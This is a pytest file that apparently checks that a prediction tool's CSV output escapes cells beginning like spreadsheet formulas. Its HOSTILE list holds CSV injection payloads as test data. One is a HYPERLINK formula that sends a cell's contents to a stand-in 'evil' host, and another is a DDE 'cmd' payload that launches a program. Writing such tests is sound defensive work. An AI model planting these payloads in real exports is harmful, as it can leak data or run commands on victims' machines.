"""Finding 16 (predictions): no cell of oanet_predictions.csv opens as a spreadsheet formula."""
from __future__ import annotations

import csv

import pandas as pd
import pytest

HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_formula_text_is_quoted(text):
    from oanet.csvsafe import escape_formula

    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["unit-0001.png", "", -1, -0.25, 0.5, None, "a=b"])
def test_csv_other_values_are_unchanged(value):
    from oanet.csvsafe import escape_formula

    assert escape_formula(value) == value


def test_csv_predict_folder_writes_no_formula_cells(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    import flows.cli as cli

    folder, bundle = tmp_path / "images", tmp_path / "bundle"
    folder.mkdir()
    bundle.mkdir()
    (folder / "a.png").write_bytes(b"")

    def predictor(items):      # what a model returns for hostile names and reads
        return pd.DataFrame({"image": HOSTILE[:len(items)] or HOSTILE[:1], "prob": [-0.5], "decision": [-1],
                             "threshold": [0.4], "driver": ["+image"], "weights": ["{}"],
                             "fields": ['{"lot": {"value": "=1+1"}}'], "error": ["@bad"]})

    monkeypatch.setattr(cli, "_load_predictor", lambda model: predictor)
    result = CliRunner().invoke(cli.app, ["predict", str(folder), "--model", str(bundle)])
    assert result.exit_code == 0, result.output
    with open(folder / "oanet_predictions.csv", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["image"] == "'" + HOSTILE[0] and row["driver"] == "'+image" and row["error"] == "'@bad"
    assert row["prob"] == "-0.5" and row["decision"] == "-1"          # numbers stay numbers
    assert row["fields"].startswith("{")
